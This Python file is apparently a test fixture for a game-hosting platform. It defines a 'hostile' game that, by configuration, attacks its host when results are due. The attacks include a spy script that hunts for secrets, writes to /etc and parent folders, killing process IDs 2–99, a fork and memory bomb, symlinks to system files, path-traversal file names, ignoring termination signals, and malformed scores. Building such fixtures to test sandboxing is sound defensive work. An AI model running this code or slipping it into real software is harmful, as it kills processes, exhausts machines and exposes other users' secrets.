"""A game that attacks the machine which runs it, in the way that its configuration names, and then plays on.

Beside it in its archive: `honest_game.py`, the game that it pretends to be, and `spy.py`, which takes what it can get.
"""

import asyncio
import contextlib
import json
import os
import signal
import subprocess
import sys
import threading
from pathlib import Path

import honest_game
from honest_game import path_of, write

WANTED = json.loads(os.environ["WANTED"])
MEGABYTE = 1 << 20


def spies(game):
    """Look for the files, secrets and sockets of others; write and kill outside; and end as if nothing had been."""
    found = Path("/tmp/found.json")
    env = os.environ | {
        "COWORLD_PLAYER_WS_URL": "ws://127.0.0.1:1/player",
        "COWORLD_PLAYER_ARTIFACT_UPLOAD_URL": f"file://{found}",
    }
    subprocess.run([sys.executable, "spy.py"], env=env, check=False)
    print("FOUND", found.read_text(), flush=True)
    for place in ("/", "/etc", "..", "../..", *WANTED["folders"]):
        for name in ("taken", "../taken", "results.json"):
            with contextlib.suppress(OSError), open(f"{place}/{name}", "x") as file:
                print("WROTE", file.name, flush=True)
    for process in (*range(2, 100), *WANTED["processes"]):
        with contextlib.suppress(OSError):
            if process != os.getpid():
                os.kill(process, signal.SIGKILL)
    print("x" * (3 * MEGABYTE), flush=True)
    return {"scores": [3.0, 3.0]}


def plays(game):
    """Do nothing bad."""
    return {"scores": [float(count) for count in game.counts]}


def lies(game):
    """Give a score that is not a number."""
    return '{"scores": [NaN, 1e999]}'


def cheats(game):
    """Give scores to seats that are not there."""
    return {"scores": [1e300] * 5}


def floods(game):
    """Leave more results than fit."""
    with path_of("COGAME_RESULTS_URI").open("wb") as file:
        file.truncate(70 * MEGABYTE)


def links(game):
    """Leave links to files of the machine in place of results, replay and events, and files with odd names."""
    folder = path_of("COGAME_RESULTS_URI").parent
    for variable, target in zip(
        ("COGAME_RESULTS_URI", "COGAME_SAVE_REPLAY_URI", "COGAME_EVENTS_URI"), WANTED["files"], strict=False
    ):
        with contextlib.suppress(OSError):
            path_of(variable).symlink_to(target)
    for name in ("..%2f..%2ftaken", "policy_artifact_9.zip", "\n", "error_info.json", "spec.json", "database"):
        with contextlib.suppress(OSError):
            (folder / name).write_text('{"error_type": "platform_error", "message": "retry"}')
    os._exit(0)


def bombs(game):
    """Take all processes, then all memory."""

    def burn():
        while True:
            with contextlib.suppress(OSError, RuntimeError):
                threading.Thread(target=burn, daemon=True).start()
                if os.fork() == 0:
                    signal.pause()
            block.append(bytes(8 * MEGABYTE))

    block = []
    burn()


def hangs(game):
    """Never end, whatever signal comes."""
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    while True:
        signal.pause()


ATTACKS = {attack.__name__: attack for attack in (plays, spies, lies, cheats, floods, links, bombs, hangs)}


class HostileGame(honest_game.Game):
    """Plays; attacks when the results are due."""

    def finish(self):
        results = ATTACKS[self.config["attack"]](self)
        if results is not None:
            write("COGAME_RESULTS_URI", results)
        write("COGAME_SAVE_REPLAY_URI", {"counts": self.counts})


honest_game.Game = HostileGame
asyncio.run(honest_game.main())
